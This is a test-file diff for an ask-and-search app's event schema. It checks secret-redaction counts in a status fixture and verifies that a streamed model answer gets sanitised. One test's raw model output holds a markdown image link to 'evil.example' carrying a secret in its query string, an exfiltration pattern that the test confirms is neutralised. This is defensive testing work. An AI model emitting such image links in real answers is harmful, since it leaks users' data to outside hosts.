@@ -16,6 +16,30 @@ describe("golden bodies validate against the wire types", () => {
 		}
 	});
 
+	it("status.json reports the secrets redacted in the index, by kind and by note, never a secret", () => {
+		const raw = fixtureJson("status.json") as { index: { redactions: unknown } };
+		const redactions = parse(statusBody, raw).index.redactions;
+		expect(redactions).toEqual(raw.index.redactions);
+		expect(redactions?.total).toBe(3);
+		expect(redactions?.by_kind).toEqual({ "aws-access-key": 1, password: 2 });
+		const byKind = Object.values(redactions?.by_kind ?? {}).reduce((a, b) => a + b, 0);
+		expect(byKind).toBe(redactions?.total);
+		for (const note of redactions?.notes ?? []) expect(note.path.endsWith(".md")).toBe(true);
+	});
+
+	it("ask.ndjson: tokens are raw model text, done.answer the inert form, with what was neutralised", () => {
+		const events = askLines().map((l) => parseAskEvent(l));
+		const raw = events.map((e) => (e?.type === "token" ? e.text : "")).join("");
+		const done = events[events.length - 1];
+		if (done?.type !== "done") throw new Error("the golden stream ends with done");
+		expect(raw).toContain("![port map](https://evil.example/ports.png?q=secret)");
+		expect(done.sanitized_answer).toBe(true);
+		expect(done.neutralised).toEqual([{ kind: "image", target: "evil.example" }]);
+		expect(done.answer).toContain("[image removed: evil.example]");
+		expect(done.answer).not.toContain("https://");
+		expect(done.answer).not.toContain("secret");
+	});
+
 	it("search.json keeps ranks 1-based or null", () => {
 		const search = parse(searchBody, fixtureJson("search.json"));
 		for (const r of search.results) {
@@ -64,6 +88,45 @@ describe("event parsing", () => {
 			{ type: "index", state: "indexing", done: 3, total: 9 },
 		],
 		[
+			"done from an older sidecar (no sanitized_answer, no neutralised)",
+			() => parseAskEvent({ type: "done", answer: "a", citations: [], no_results: false, metrics: {} }),
+			{
+				type: "done",
+				answer: "a",
+				citations: [],
+				invalid_citations: [],
+				no_results: false,
+				sanitized_answer: null,
+				neutralised: [],
+				metrics: {
+					embed_ms: null,
+					retrieval_ms: null,
+					first_token_ms: null,
+					generation_ms: null,
+					total_ms: null,
+					prompt_tokens: null,
+					completion_tokens: null,
+				},
+			},
+		],
+		[
+			"a neutralised kind this version does not know, and a null target",
+			() =>
+				(parseAskEvent({ type: "done", answer: "", citations: [], no_results: false, metrics: {}, neutralised: [{ kind: "later", target: null }] }) as {
+					neutralised: unknown;
+				}).neutralised,
+			[{ kind: "later", target: null }],
+		],
+		[
+			"a status from an older sidecar has no redactions",
+			() => {
+				const raw = structuredClone(fixtureJson("status.json")) as { index: Record<string, unknown> };
+				delete raw.index.redactions;
+				return parse(statusBody, raw).index.redactions;
+			},
+			null,
+		],
+		[
 			"error without partial",
 			() => parseAskEvent({ type: "error", code: "model_missing", message: "m" }),
 			{ type: "error", code: "model_missing", message: "m", partial: "" },
@@ -77,6 +140,16 @@ describe("event parsing", () => {
 		["a done with a string citation", { type: "done", answer: "", citations: ["1"], no_results: false, metrics: {} }, "citations[0]"],
 		["an index event with a bad state", { type: "index", state: "busy", done: 1, total: 1 }, "state"],
 		["no type at all", { text: "x" }, "type"],
+		[
+			"a done whose sanitized_answer is not a boolean",
+			{ type: "done", answer: "", citations: [], no_results: false, metrics: {}, sanitized_answer: "yes" },
+			"sanitized_answer",
+		],
+		[
+			"a neutralised item without a kind",
+			{ type: "done", answer: "", citations: [], no_results: false, metrics: {}, neutralised: [{ target: "x" }] },
+			"neutralised[0].kind",
+		],
 	])("rejects %s, naming the field", (_name, value, path) => {
 		const run = () => (path === "state" ? parseServerEvent(value) : parseAskEvent(value));
 		expect(run).toThrow(SchemaError);
